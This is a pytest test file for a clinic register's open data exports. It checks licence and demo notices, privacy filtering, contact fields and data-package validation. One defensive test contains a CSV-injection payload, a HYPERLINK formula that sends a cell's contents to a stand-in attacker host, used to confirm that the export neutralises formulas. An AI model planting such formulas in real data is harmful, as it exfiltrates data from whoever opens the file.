"""The open data exports: contents, licence, demo marker, and nothing private."""

import csv
import io
import json

import pytest

from tests.register.builders import make_listing, make_product, make_user

pytestmark = pytest.mark.django_db


def _csv_rows(client):
    response = client.get("/register/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert text.splitlines()[0].startswith("listing_id,name,")  # the header first: no preamble
    package = client.get("/register/datapackage.json").json()
    comments = [
        json.dumps(package["licenses"]),
        package["description"],
        *(s.get("description", "") for s in package["sources"]),
    ]
    return comments, list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_has_one_row_per_published_treatment_with_licence_and_demo_notice(client):
    user = make_user(email="private.person@example.test")
    listing = make_listing(
        status="accredited", user=user, treatments=("dermal-filler", "botulinum-toxin")
    )
    listing.offers.filter(treatment="dermal-filler").first().products.add(make_product(listing))
    make_listing(status="draft", name="Hidden Draft")
    unlawful = make_listing(status="applied", treatments=("exosomes",))
    unlawful.offers.update(verdict="unlawful", is_published=False)
    comments, rows = _csv_rows(client)
    assert any("CC-BY-4.0" in line for line in comments)
    assert any("Demo data" in line for line in comments)
    assert any("Contains OS data" in line for line in comments)
    mine = [r for r in rows if r["listing_id"] == str(listing.pk)]
    assert sorted(r["treatment"] for r in mine) == ["botulinum-toxin", "dermal-filler"]
    filler = next(r for r in mine if r["treatment"] == "dermal-filler")
    assert filler["products"] == "Hyaluronic filler (Example Labs; synthetic; injected; device)"
    assert all(r["accreditation_status"] == "accredited" for r in mine)
    assert not [r for r in rows if r["name"] == "Hidden Draft"]
    exosome_rows = [r for r in rows if r["listing_id"] == str(unlawful.pk)]
    assert [r["treatment"] for r in exosome_rows] == [""]  # the listing, not the unlawful offer
    everything = "\n".join(comments) + str(rows)
    assert "private.person" not in everything


def test_the_csv_export_has_the_clinic_contact_the_listing_page_shows(client):
    listing = make_listing(status="accredited", treatments=("dermal-filler",))
    clinic = listing.clinics.first()
    clinic.phone, clinic.website = "029 2000 0000", "https://clinic.example.test/"
    clinic.save()
    _, rows = _csv_rows(client)
    (row,) = [r for r in rows if r["listing_id"] == str(listing.pk)]
    assert (row["clinic_phone"], row["clinic_website"]) == (clinic.phone, clinic.website)


def test_the_json_export_has_the_licence_attribution_and_the_demo_marker(client):
    demo = make_listing(status="accredited", is_demo=True)
    response = client.get("/register/export.json")
    body = json.loads(b"".join(response.streaming_content))
    assert body["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert "Contains OS data" in body["attribution"]
    assert "Demo data" in body["demo_data"]
    (item,) = [i for i in body["listings"] if i["id"] == demo.pk]
    assert item["is_demo"] is True
    assert item["accreditation"]["status"] == "accredited"
    assert item["treatments"][0]["slug"] == "dermal-filler"


def test_the_csv_export_defuses_spreadsheet_formulas_in_what_practitioners_type(client):
    # CSV injection: a cell starting with = + - @ (or tab, CR) runs as a formula in Excel or
    # LibreOffice when someone opens the open data. Phone numbers like +44 stay as they are.
    listing = make_listing(
        status="accredited", name='=HYPERLINK("https://evil.example/?"&A1,"Click")'
    )
    clinic = listing.clinics.first()
    clinic.name, clinic.address, clinic.phone = "@SUM(1+1)", "-2+3", "+44 20 7946 0000"
    clinic.save()
    _, rows = _csv_rows(client)
    (row,) = [r for r in rows if r["listing_id"] == str(listing.pk)]
    assert row["name"] == "'" + listing.name
    assert row["clinic_name"] == "'@SUM(1+1)"
    assert row["clinic_address"] == "'-2+3"
    assert row["clinic_phone"] == "+44 20 7946 0000"
    assert float(row["longitude"]) == round(clinic.longitude, 5)


def test_the_data_package_validates_with_frictionless_against_the_real_export(client, tmp_path):
    """The frictionless validator (the Data Package standard's own tool) reads the package
    beside the CSV exactly as a user downloading both would."""
    import frictionless

    listing = make_listing(status="suspended", status_reason='=HYPERLINK("x")')
    listing.offers.first().products.add(make_product(listing))
    make_listing(status="accredited", treatments=())
    csv_text = b"".join(client.get("/register/export.csv").streaming_content)
    json_text = b"".join(client.get("/register/export.json").streaming_content)
    (tmp_path / "export.csv").write_bytes(csv_text)
    (tmp_path / "export.json").write_bytes(json_text)
    package = client.get("/register/datapackage.json").content
    (tmp_path / "datapackage.json").write_bytes(package)
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert report.tasks[0].stats["rows"] >= 2
    described = json.loads(package)["resources"][0]["schema"]["fields"]
    assert all(field["description"] for field in described)
    assert client.get("/register/export.csv")["Link"].endswith('rel="describedby"')
